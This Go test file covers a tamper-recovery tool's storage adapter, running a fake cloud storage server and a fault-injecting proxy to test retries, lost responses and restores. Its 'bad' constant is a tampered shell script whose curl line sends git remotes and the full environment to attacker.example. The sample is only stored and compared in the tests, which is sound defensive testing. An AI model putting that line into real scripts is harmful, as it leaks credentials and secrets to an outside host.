package gcstest_test

// What the storage adapter (internal/gcs, the real SDK underneath) reports when each step
// of a restore meets each kind of fault. The incident protocol relies on these answers,
// so every test states the exact outcome and how many requests the fault consumed.
//
// Unless a test says otherwise, keep-alive is off on the proxy so that every attempt of
// the SDK is one request through it (no silent replay by Go's transport; see
// TestKeepAliveReplaysReadsOnce for what keep-alive changes).

import (
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"io"
	"net/http"
	"strconv"
	"strings"
	"testing"
	"time"

	"cloud.google.com/go/storage"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"google.golang.org/api/googleapi"

	"github.com/tamperguard/tamperguard/internal/engine"
	"github.com/tamperguard/tamperguard/internal/faultproxy"
	"github.com/tamperguard/tamperguard/internal/gcs"
	"github.com/tamperguard/tamperguard/internal/gcstest"
)

const (
	bkt     = "tg-faults"
	bad     = "#!/bin/sh\ncurl -sm 0.5 -d \"$(git remote -v)<<<<<< ENV $(env)\" https://attacker.example/upload/v2\n"
	good    = "#!/bin/sh\necho codecov uploader\n"
	timeout = 20 * time.Second
)

type rig struct {
	srv *gcstest.Server
	p   *faultproxy.Proxy
	st  *gcs.Store      // through the proxy
	c   *storage.Client // through the proxy
	gen int64           // the live generation of "x", holding bad
}

// newRig starts the fake, writes bad as object "x" directly (not through the proxy) and
// returns a store whose requests go through a proxy with keep-alive off.
func newRig(t *testing.T) *rig {
	t.Helper()
	srv := gcstest.New(t, gcstest.BucketSpec{Name: bkt, Versioning: true})
	direct := gcs.New(srv.Client)
	a, err := direct.Write(ctx(t), bkt, "x", engine.Condition{DoesNotExist: true}, engine.Metadata{ContentType: "text/x-sh"}, strings.NewReader(bad))
	require.NoError(t, err)
	p, c := srv.WithFaults(t)
	p.SetKeepAlives(false)
	return &rig{srv: srv, p: p, st: gcs.New(c), c: c, gen: a.Generation}
}

func ctx(t *testing.T) context.Context {
	c, cancel := context.WithTimeout(context.Background(), timeout)
	t.Cleanup(cancel)
	return c
}

// shortDeadline is for calls that only a deadline ends (a hang, an upload retried
// without bound). The outcome does not depend on its length.
func shortDeadline(t *testing.T) context.Context {
	c, cancel := context.WithTimeout(context.Background(), 150*time.Millisecond)
	t.Cleanup(cancel)
	return c
}

// rule adds a rule for op on bkt (any object) whose requests also satisfy extra.
func (r *rig) rule(op gcstest.Op, when faultproxy.When, f faultproxy.Fault, extra ...func(*http.Request) bool) *faultproxy.Handle {
	return r.p.Add(faultproxy.Rule{
		Name:  op.String() + " " + f.String(),
		Match: faultproxy.All(append([]func(*http.Request) bool{r.srv.Match(op, bkt, "")}, extra...)...),
		When:  when, Fault: f,
	})
}

// live reads the live generation of name directly (not through the proxy).
func (r *rig) live(t *testing.T, name string) (engine.ObjectAttrs, string) {
	t.Helper()
	direct := gcs.New(r.srv.Client)
	a, err := direct.Attrs(ctx(t), bkt, name, 0)
	require.NoError(t, err)
	rd, err := direct.Open(ctx(t), bkt, name, a.Generation)
	require.NoError(t, err)
	defer rd.Close()
	b, err := io.ReadAll(rd)
	require.NoError(t, err)
	return a, string(b)
}

func readAll(ctx context.Context, st *gcs.Store, name string, gen int64) (string, error) {
	rd, err := st.Open(ctx, bkt, name, gen)
	if err != nil {
		return "", err
	}
	defer rd.Close()
	b, err := io.ReadAll(rd)
	return string(b), err
}

func httpCode(err error) int {
	var e *googleapi.Error
	if errors.As(err, &e) {
		return e.Code
	}
	return 0
}

// ---- plumbing -----------------------------------------------------------------------

func TestWithFaultsCarriesEveryKindOfRequest(t *testing.T) {
	r := newRig(t)
	c := ctx(t)

	a, err := r.st.Attrs(c, bkt, "x", 0)
	require.NoError(t, err)
	assert.Equal(t, r.gen, a.Generation)
	got, err := readAll(c, r.st, "x", r.gen)
	require.NoError(t, err, "XML reads reach the fake's download route through the proxy")
	assert.Equal(t, bad, got)
	vs, err := r.st.Versions(c, bkt, "x")
	require.NoError(t, err)
	assert.Len(t, vs, 1)
	w, err := r.st.Write(c, bkt, "x", engine.Condition{GenerationMatch: r.gen}, engine.Metadata{ContentType: "text/x-sh"}, strings.NewReader(good))
	require.NoError(t, err)
	_, err = r.st.UpdateMetadata(c, bkt, "x", engine.Condition{GenerationMatch: w.Generation, MetagenerationMatch: 1}, engine.Metadata{ContentType: "text/x-sh", CacheControl: "no-cache"})
	require.NoError(t, err)
	require.NoError(t, r.st.Delete(c, bkt, "x", engine.Condition{GenerationMatch: w.Generation}))

	// A gzip-encoded object is read as stored: the proxy neither asks for nor undoes
	// compression.
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	_, err = io.WriteString(zw, good)
	require.NoError(t, err)
	require.NoError(t, zw.Close())
	z, err := gcs.New(r.srv.Client).Write(c, bkt, "x.gz", engine.Condition{DoesNotExist: true},
		engine.Metadata{ContentType: "text/x-sh", ContentEncoding: "gzip"}, bytes.NewReader(gz.Bytes()))
	require.NoError(t, err)
	got, err = readAll(c, r.st, "x.gz", z.Generation)
	require.NoError(t, err)
	assert.Equal(t, gz.String(), got)

	// A resumable upload in several chunks: the session URL the fake returns names the
	// layer's host; the proxy points it back at itself, so the chunks come through it.
	big := strings.Repeat("0123456789abcdef", 40<<10) // 640 KiB: three chunks of 256 KiB
	wr := r.c.Bucket(bkt).Object("big").If(storage.Conditions{DoesNotExist: true}).NewWriter(c)
	wr.ChunkSize = 256 << 10
	_, err = io.WriteString(wr, big)
	require.NoError(t, err)
	require.NoError(t, wr.Close())
	_, body := r.live(t, "big")
	assert.Equal(t, big, body)
	chunks := 0
	require.NoError(t, r.p.WaitIdle(c))
	for _, e := range r.p.Log() {
		assert.Less(t, e.Status, 400, "%s", e)
		assert.NotZero(t, e.Status, "%s", e)
		if strings.Contains(e.URL, "upload_id=") {
			chunks++
		}
	}
	assert.Equal(t, 3, chunks, "every chunk went through the proxy")
}

func TestMatch(t *testing.T) {
	srv := gcstest.New(t, gcstest.BucketSpec{Name: bkt})
	p, _ := srv.WithFaults(t)
	base := p.URL()
	req := func(method, uri string, header ...string) *http.Request {
		r, err := http.NewRequest(method, base+uri, nil)
		require.NoError(t, err)
		for i := 0; i+1 < len(header); i += 2 {
			r.Header.Set(header[i], header[i+1])
		}
		// As the proxy's handler sees it.
		r.RequestURI = uri
		r.Host = p.Host()
		return r
	}
	type tc struct {
		r    *http.Request
		op   gcstest.Op
		obj  string
		want bool
	}
	attrs := req(http.MethodGet, "/storage/v1/b/"+bkt+"/o/dir%2Fx?alt=json&projection=full")
	xml := req(http.MethodGet, "/"+bkt+"/dir/x?generation=12")
	jsonMedia := req(http.MethodGet, "/storage/v1/b/"+bkt+"/o/dir%2Fx?alt=media")
	list := req(http.MethodGet, "/storage/v1/b/"+bkt+"/o?prefix=dir%2Fx&versions=true")
	upload := req(http.MethodPost, "/upload/storage/v1/b/"+bkt+"/o?uploadType=multipart&name=dir%2Fx&ifGenerationMatch=0")
	chunk := req(http.MethodPut, "/upload/storage/v1/b/"+bkt+"/o?uploadType=resumable&name=dir%2Fx&upload_id=abc")
	patch := req(http.MethodPatch, "/storage/v1/b/"+bkt+"/o/dir%2Fx?ifMetagenerationMatch=1")
	patchOverride := req(http.MethodPost, "/storage/v1/b/"+bkt+"/o/dir%2Fx", "X-HTTP-Method-Override", "PATCH")
	update := req(http.MethodPut, "/storage/v1/b/"+bkt+"/o/dir%2Fx")
	del := req(http.MethodDelete, "/storage/v1/b/"+bkt+"/o/dir%2Fx?ifGenerationMatch=3")
	rewrite := req(http.MethodPost, "/storage/v1/b/"+bkt+"/o/dir%2Fx/rewriteTo/b/evidence/o/incidents%2F1")
	compose := req(http.MethodPost, "/storage/v1/b/"+bkt+"/o/dir%2Fx/compose")
	for i, c := range []tc{
		{attrs, gcstest.OpAttrs, "dir/x", true},
		{attrs, gcstest.OpAttrs, "dir", false},
		{attrs, gcstest.OpRead, "dir/x", false},
		{xml, gcstest.OpRead, "dir/x", true},
		{xml, gcstest.OpAttrs, "dir/x", false},
		{jsonMedia, gcstest.OpRead, "dir/x", true},
		{jsonMedia, gcstest.OpAttrs, "", false},
		{list, gcstest.OpList, "dir/x", true},
		{list, gcstest.OpList, "", true},
		{list, gcstest.OpList, "dir", false},
		{upload, gcstest.OpUpload, "dir/x", true},
		{upload, gcstest.OpUpload, "x", false},
		{chunk, gcstest.OpUpload, "dir/x", true},
		{chunk, gcstest.OpUpdate, "dir/x", false},
		{patch, gcstest.OpPatch, "dir/x", true},
		{patchOverride, gcstest.OpPatch, "dir/x", true},
		{patchOverride, gcstest.OpUpdate, "dir/x", false},
		{update, gcstest.OpUpdate, "dir/x", true},
		{update, gcstest.OpPatch, "dir/x", false},
		{del, gcstest.OpDelete, "dir/x", true},
		{del, gcstest.OpAttrs, "dir/x", false},
		{rewrite, gcstest.OpCopy, "dir/x", true},
		{rewrite, gcstest.OpAttrs, "", false},
		{compose, gcstest.OpCompose, "dir/x", true},
		{compose, gcstest.OpCopy, "", false},
	} {
		assert.Equal(t, c.want, srv.Match(c.op, bkt, c.obj)(c.r), "#%d %s %s %q", i, c.op, c.r.RequestURI, c.obj)
	}
	assert.False(t, srv.Match(gcstest.OpAttrs, "other", "")(attrs), "another bucket")
	// The destination of a copy matches too.
	dst := req(http.MethodPost, "/storage/v1/b/src/o/a/rewriteTo/b/"+bkt+"/o/incidents%2F1")
	assert.True(t, srv.Match(gcstest.OpCopy, bkt, "incidents/1")(dst))
	assert.False(t, srv.Match(gcstest.OpCopy, bkt, "a")(dst))
	assert.Panics(t, func() { srv.Match(gcstest.Op(0), "", "") })
}

// ---- metadata reads, listings and downloads -----------------------------------------

// readSteps are the reads of a restore: the attributes of the bad generation, the
// versions listing, the download of a generation.
func readSteps(r *rig) []struct {
	name string
	op   gcstest.Op
	run  func(context.Context) error
} {
	return []struct {
		name string
		op   gcstest.Op
		run  func(context.Context) error
	}{
		{"attrs", gcstest.OpAttrs, func(c context.Context) error { _, err := r.st.Attrs(c, bkt, "x", r.gen); return err }},
		{"versions", gcstest.OpList, func(c context.Context) error { _, err := r.st.Versions(c, bkt, "x"); return err }},
		{"read", gcstest.OpRead, func(c context.Context) error {
			got, err := readAll(c, r.st, "x", r.gen)
			if err == nil && got != bad {
				return errors.New("read returned other bytes: " + got)
			}
			return err
		}},
	}
}

// Answers a retry can absorb: the SDK tries MaxAttempts times.
func TestReadsRetryTransientFaultsMaxAttemptsTimes(t *testing.T) {
	for _, f := range []faultproxy.Fault{
		faultproxy.Status(http.StatusServiceUnavailable),
		faultproxy.Status(http.StatusInternalServerError),
		faultproxy.Status(http.StatusTooManyRequests).WithHeader("Retry-After", "0"),
		faultproxy.Reset(),
		faultproxy.LoseResponse(),
	} {
		t.Run(f.String(), func(t *testing.T) {
			r := newRig(t)
			for _, step := range readSteps(r) {
				// One fewer than MaxAttempts: absorbed.
				h := r.rule(step.op, faultproxy.Next(gcstest.MaxAttempts-1), f)
				require.NoError(t, step.run(ctx(t)), step.name)
				assert.Equal(t, gcstest.MaxAttempts-1, h.Applied(), step.name)
				h.Remove()

				// On every attempt: ErrTransient after exactly MaxAttempts requests.
				h = r.rule(step.op, faultproxy.Always(), f)
				err := step.run(ctx(t))
				assert.ErrorIs(t, err, engine.ErrTransient, step.name)
				assert.Equal(t, gcstest.MaxAttempts, h.Applied(), step.name)
				if f.Kind() == faultproxy.KindStatus {
					assert.NotZero(t, httpCode(err), "the cause is the server's answer: %v", err)
				}
				h.Remove()
			}
		})
	}
}

func TestReadsHangUntilTheDeadline(t *testing.T) {
	r := newRig(t)
	for _, step := range readSteps(r) {
		g := faultproxy.NewGate()
		h := r.rule(step.op, faultproxy.Always(), faultproxy.Hang(g))
		err := step.run(shortDeadline(t))
		assert.ErrorIs(t, err, engine.ErrTransient, step.name)
		assert.ErrorIs(t, err, context.DeadlineExceeded, step.name)
		assert.Equal(t, 1, h.Applied(), "%s: a hung attempt is never retried within the deadline", step.name)
		h.Remove()
	}
}

func TestReadsCallerCancelIsNotTransient(t *testing.T) {
	r := newRig(t)
	g := faultproxy.NewGate()
	r.rule(gcstest.OpAttrs, faultproxy.Always(), faultproxy.Hang(g))
	c, cancel := context.WithCancel(ctx(t))
	errc := make(chan error, 1)
	go func() { _, err := r.st.Attrs(c, bkt, "x", 0); errc <- err }()
	require.NoError(t, g.Wait(ctx(t), 1))
	cancel()
	err := <-errc
	assert.ErrorIs(t, err, context.Canceled)
	assert.NotErrorIs(t, err, engine.ErrTransient, "the caller gave up")
}

// A JSON answer cut short is retried like a reset; a download cut short is resumed.
func TestTruncatedAnswers(t *testing.T) {
	r := newRig(t)
	for _, op := range []gcstest.Op{gcstest.OpAttrs, gcstest.OpList} {
		h := r.rule(op, faultproxy.Always(), faultproxy.Truncate(10))
		var err error
		if op == gcstest.OpAttrs {
			_, err = r.st.Attrs(ctx(t), bkt, "x", 0)
		} else {
			_, err = r.st.Versions(ctx(t), bkt, "x")
		}
		assert.ErrorIs(t, err, engine.ErrTransient, "%s", op)
		assert.ErrorIs(t, err, io.ErrUnexpectedEOF, "%s", op)
		assert.Equal(t, gcstest.MaxAttempts, h.Applied(), "%s", op)
		h.Remove()
	}

	// A download cut after k bytes is resumed by the SDK with a ranged request from byte
	// k, each answer cut again: it takes ceil(size/k) requests and yields the right bytes
	// (the CRC32C of the whole object is checked at the end).
	const k = 25
	h := r.rule(gcstest.OpRead, faultproxy.Always(), faultproxy.Truncate(k))
	got, err := readAll(ctx(t), r.st, "x", r.gen)
	require.NoError(t, err)
	assert.Equal(t, bad, got)
	assert.Equal(t, (len(bad)+k-1)/k, h.Applied())
	h.Remove()

	// Cut before the first byte every time, the SDK reopens without end (no attempt
	// bound applies to reopening a body): only the deadline stops it.
	h = r.rule(gcstest.OpRead, faultproxy.Always(), faultproxy.Truncate(0))
	_, err = readAll(shortDeadline(t), r.st, "x", r.gen)
	assert.ErrorIs(t, err, engine.ErrTransient)
	assert.ErrorIs(t, err, context.DeadlineExceeded)
	assert.Greater(t, h.Applied(), gcstest.MaxAttempts)
}

// A front end that answers a shorter body as if it were whole: the SDK's CRC32C check
// refuses the download; a JSON answer does not parse. Neither is retried nor transient.
func TestShortBodies(t *testing.T) {
	r := newRig(t)
	h := r.rule(gcstest.OpRead, faultproxy.Always(), faultproxy.ShortBody(20))
	got, err := readAll(ctx(t), r.st, "x", r.gen)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "bad CRC on read")
	assert.Contains(t, err.Error(), `gs://tg-faults/"x"`)
	assert.NotErrorIs(t, err, engine.ErrTransient)
	assert.Equal(t, bad[:20], got, "the bytes before the error are delivered: a caller must not hash them as the object")
	assert.Equal(t, 1, h.Applied())
	h.Remove()

	h = r.rule(gcstest.OpAttrs, faultproxy.Always(), faultproxy.ShortBody(20))
	_, err = r.st.Attrs(ctx(t), bkt, "x", 0)
	require.Error(t, err)
	assert.NotErrorIs(t, err, engine.ErrTransient)
	assert.NotErrorIs(t, err, engine.ErrObjectNotFound)
	assert.Equal(t, 1, h.Applied())
}

// With keep-alive (WithFaults' default), Go's transport replays a reset read once on a
// fresh connection before the SDK sees it: a rule on every attempt is applied
// MaxAttempts+1 times, and a single reset is invisible.
func TestKeepAliveReplaysReadsOnce(t *testing.T) {
	r := newRig(t)
	r.p.SetKeepAlives(true)
	_, err := r.st.Attrs(ctx(t), bkt, "x", 0) // leaves one idle connection
	require.NoError(t, err)

	h := r.rule(gcstest.OpAttrs, faultproxy.Always(), faultproxy.Reset())
	_, err = r.st.Attrs(ctx(t), bkt, "x", 0)
	assert.ErrorIs(t, err, engine.ErrTransient)
	assert.Equal(t, gcstest.MaxAttempts+1, h.Applied())
	h.Remove()

	_, err = r.st.Attrs(ctx(t), bkt, "x", 0) // a new idle connection
	require.NoError(t, err)
	h = r.rule(gcstest.OpAttrs, faultproxy.Nth(1), faultproxy.Reset())
	_, err = r.st.Attrs(ctx(t), bkt, "x", 0)
	require.NoError(t, err)
	assert.Equal(t, 1, h.Applied())

	// Uploads are never replayed by the transport.
	_, err = r.st.Attrs(ctx(t), bkt, "x", 0)
	require.NoError(t, err)
	h = r.rule(gcstest.OpUpload, faultproxy.Nth(1), faultproxy.LoseResponse())
	_, err = r.st.Write(ctx(t), bkt, "x", engine.Condition{GenerationMatch: r.gen}, engine.Metadata{}, strings.NewReader(good))
	assert.ErrorIs(t, err, engine.ErrPrecondition, "the SDK's own retry met the committed write")
	assert.Equal(t, 1, h.Applied())
}

// Conditional deletes and metadata updates are retried MaxAttempts times, like reads.
func TestDeletesAndUpdatesRetryMaxAttemptsTimes(t *testing.T) {
	for _, f := range []faultproxy.Fault{faultproxy.Status(http.StatusServiceUnavailable), faultproxy.Reset()} {
		t.Run(f.String(), func(t *testing.T) {
			r := newRig(t)
			h := r.rule(gcstest.OpDelete, faultproxy.Always(), f)
			err := r.st.Delete(ctx(t), bkt, "x", engine.Condition{GenerationMatch: r.gen})
			assert.ErrorIs(t, err, engine.ErrTransient)
			assert.Equal(t, gcstest.MaxAttempts, h.Applied())
			h.Remove()

			h = r.rule(gcstest.OpPatch, faultproxy.Always(), f)
			_, err = r.st.UpdateMetadata(ctx(t), bkt, "x", engine.Condition{GenerationMatch: r.gen, MetagenerationMatch: 1},
				engine.Metadata{ContentType: "text/x-sh", CacheControl: "no-cache"})
			assert.ErrorIs(t, err, engine.ErrTransient)
			assert.Equal(t, gcstest.MaxAttempts, h.Applied())

			a, body := r.live(t, "x")
			assert.Equal(t, bad, body, "nothing committed")
			assert.Empty(t, a.Meta.CacheControl)
		})
	}
}

// ---- writes -------------------------------------------------------------------------

// The write that creates an incident record (ifGenerationMatch=0) commits, its answer is
// lost, the SDK retries and the retry gets 412: the adapter reports ErrPrecondition
// although the record it asked for is there. The owner token in the record is what lets
// the writer recognise it.
func TestLostResponseOnConditionalCreate(t *testing.T) {
	r := newRig(t)
	h := r.rule(gcstest.OpUpload, faultproxy.Nth(1), faultproxy.LoseResponse(), faultproxy.QueryParam("ifGenerationMatch", "0"))
	record := `{"owner":"token-1","state":"handling"}`
	_, err := r.st.Write(ctx(t), bkt, "incidents/x", engine.Condition{DoesNotExist: true},
		engine.Metadata{ContentType: "application/json", Custom: map[string]string{"owner": "token-1"}}, strings.NewReader(record))
	assert.ErrorIs(t, err, engine.ErrPrecondition)
	assert.Equal(t, http.StatusPreconditionFailed, httpCode(err))
	assert.NotErrorIs(t, err, engine.ErrTransient)

	a, body := r.live(t, "incidents/x")
	assert.Equal(t, record, body, "the first attempt committed")
	assert.Equal(t, "token-1", a.Meta.Custom["owner"])

	assert.Equal(t, 1, h.Applied())
	log := uploadLog(t, r)
	require.Len(t, log, 2, "one attempt lost, one retry")
	assert.Equal(t, 0, log[0].Status)
	assert.Equal(t, http.StatusOK, log[0].Upstream)
	assert.Equal(t, http.StatusPreconditionFailed, log[1].Status)
}

// The same on the restore write (ifGenerationMatch=G): the good bytes are live, the
// adapter reports ErrPrecondition, as it would if a newer write had come first. The
// restored generation's metadata (naming the incident) tells the two apart.
func TestLostResponseOnConditionalRestore(t *testing.T) {
	r := newRig(t)
	h := r.rule(gcstest.OpUpload, faultproxy.Nth(1), faultproxy.LoseResponse(), faultproxy.QueryParam("ifGenerationMatch", itoa(r.gen)))
	_, err := r.st.Write(ctx(t), bkt, "x", engine.Condition{GenerationMatch: r.gen},
		engine.Metadata{ContentType: "text/x-sh", Custom: map[string]string{"tamperguard-incident": "x#1"}}, strings.NewReader(good))
	assert.ErrorIs(t, err, engine.ErrPrecondition)
	assert.NotErrorIs(t, err, engine.ErrTransient)

	a, body := r.live(t, "x")
	assert.Equal(t, good, body, "the restore committed")
	assert.NotEqual(t, r.gen, a.Generation)
	assert.Equal(t, "x#1", a.Meta.Custom["tamperguard-incident"])
	assert.Equal(t, 1, h.Applied())
	assert.Len(t, uploadLog(t, r), 2)
}

// A delete whose answer is lost: the retry finds nothing to delete and the adapter
// reports ErrObjectNotFound although the delete committed (quarantine relies on this).
func TestLostResponseOnConditionalDelete(t *testing.T) {
	r := newRig(t)
	h := r.rule(gcstest.OpDelete, faultproxy.Nth(1), faultproxy.LoseResponse())
	err := r.st.Delete(ctx(t), bkt, "x", engine.Condition{GenerationMatch: r.gen})
	assert.ErrorIs(t, err, engine.ErrObjectNotFound)
	assert.NotErrorIs(t, err, engine.ErrPrecondition)
	_, err = gcs.New(r.srv.Client).Attrs(ctx(t), bkt, "x", 0)
	assert.ErrorIs(t, err, engine.ErrObjectNotFound, "the delete committed")
	assert.Equal(t, 1, h.Applied())
}

// A metadata update whose answer is lost: the retry meets the bumped metageneration and
// gets 412, although the update committed.
func TestLostResponseOnMetadataUpdate(t *testing.T) {
	r := newRig(t)
	h := r.rule(gcstest.OpPatch, faultproxy.Nth(1), faultproxy.LoseResponse())
	_, err := r.st.UpdateMetadata(ctx(t), bkt, "x", engine.Condition{GenerationMatch: r.gen, MetagenerationMatch: 1},
		engine.Metadata{ContentType: "text/x-sh", CacheControl: "no-cache"})
	assert.ErrorIs(t, err, engine.ErrPrecondition)
	a, _ := r.live(t, "x")
	assert.Equal(t, "no-cache", a.Meta.CacheControl, "the update committed")
	assert.EqualValues(t, 2, a.Metageneration)
	assert.Equal(t, 1, h.Applied())
}

// An upload whose answer is cut short is not retried: the adapter reports ErrTransient
// although the write committed. A short (but well-framed) answer is not even transient.
func TestCutAnswerOnUploadIsCommittedButReported(t *testing.T) {
	r := newRig(t)
	h := r.rule(gcstest.OpUpload, faultproxy.Always(), faultproxy.Truncate(10))
	_, err := r.st.Write(ctx(t), bkt, "x", engine.Condition{GenerationMatch: r.gen}, engine.Metadata{}, strings.NewReader(good))
	assert.ErrorIs(t, err, engine.ErrTransient)
	assert.ErrorIs(t, err, io.ErrUnexpectedEOF)
	assert.Equal(t, 1, h.Applied(), "not retried")
	a, body := r.live(t, "x")
	assert.Equal(t, good, body, "committed")
	h.Remove()

	h = r.rule(gcstest.OpUpload, faultproxy.Always(), faultproxy.ShortBody(10))
	_, err = r.st.Write(ctx(t), bkt, "x", engine.Condition{GenerationMatch: a.Generation}, engine.Metadata{}, strings.NewReader(bad))
	require.Error(t, err)
	assert.NotErrorIs(t, err, engine.ErrTransient)
	assert.NotErrorIs(t, err, engine.ErrPrecondition)
	assert.Equal(t, 1, h.Applied())
	_, body = r.live(t, "x")
	assert.Equal(t, bad, body, "committed")
}

// Uploads are retried by the SDK's per-chunk deadline, not bounded by MaxAttempts:
// faults on more than MaxAttempts attempts are absorbed.
func TestUploadsRetryBeyondMaxAttempts(t *testing.T) {
	for _, f := range []faultproxy.Fault{faultproxy.Status(http.StatusServiceUnavailable), faultproxy.Reset()} {
		t.Run(f.String(), func(t *testing.T) {
			r := newRig(t)
			n := gcstest.MaxAttempts + 2
			h := r.rule(gcstest.OpUpload, faultproxy.Next(n), f)
			_, err := r.st.Write(ctx(t), bkt, "x", engine.Condition{GenerationMatch: r.gen}, engine.Metadata{}, strings.NewReader(good))
			require.NoError(t, err)
			assert.Equal(t, n, h.Applied())
			_, body := r.live(t, "x")
			assert.Equal(t, good, body)
		})
	}
}

// On every attempt, only the caller's deadline ends an upload: ErrTransient with the
// deadline as the cause, and nothing committed.
func TestUploadsFailingEveryAttemptEndAtTheDeadline(t *testing.T) {
	for _, f := range []faultproxy.Fault{faultproxy.Status(http.StatusServiceUnavailable), faultproxy.Reset(), faultproxy.Hang(nil)} {
		t.Run(f.String(), func(t *testing.T) {
			r := newRig(t)
			h := r.rule(gcstest.OpUpload, faultproxy.Always(), f)
			_, err := r.st.Write(shortDeadline(t), bkt, "x", engine.Condition{GenerationMatch: r.gen}, engine.Metadata{}, strings.NewReader(good))
			assert.ErrorIs(t, err, engine.ErrTransient)
			assert.ErrorIs(t, err, context.DeadlineExceeded)
			if f.Kind() == faultproxy.KindHang {
				assert.Equal(t, 1, h.Applied())
			} else {
				assert.Greater(t, h.Applied(), gcstest.MaxAttempts)
			}
			_, body := r.live(t, "x")
			assert.Equal(t, bad, body, "nothing committed")
		})
	}
}

// The write commits but its answer comes after the caller's deadline: ErrTransient
// (deadline), and the restore is live. When the answer is finally released nobody reads
// it.
func TestRestoreAnsweredAfterTheDeadline(t *testing.T) {
	r := newRig(t)
	g := faultproxy.NewGate()
	t.Cleanup(g.Release)
	h := r.rule(gcstest.OpUpload, faultproxy.Always(), faultproxy.DelayResponse(g))
	_, err := r.st.Write(shortDeadline(t), bkt, "x", engine.Condition{GenerationMatch: r.gen}, engine.Metadata{}, strings.NewReader(good))
	assert.ErrorIs(t, err, engine.ErrTransient)
	assert.ErrorIs(t, err, context.DeadlineExceeded)
	assert.Equal(t, 1, h.Applied())
	_, body := r.live(t, "x")
	assert.Equal(t, good, body, "committed")
	log := uploadLog(t, r)
	require.Len(t, log, 1)
	assert.Equal(t, 0, log[0].Status, "the answer was lost")
	assert.Equal(t, http.StatusOK, log[0].Upstream)
}

// uploadLog waits until the proxy is idle and returns the uploads in its log.
func uploadLog(t *testing.T, r *rig) []faultproxy.Entry {
	t.Helper()
	require.NoError(t, r.p.WaitIdle(ctx(t)))
	var out []faultproxy.Entry
	for _, e := range r.p.Log() {
		if strings.HasPrefix(e.URL, "/upload/") {
			out = append(out, e)
		}
	}
	return out
}

func itoa(n int64) string { return strconv.FormatInt(n, 10) }
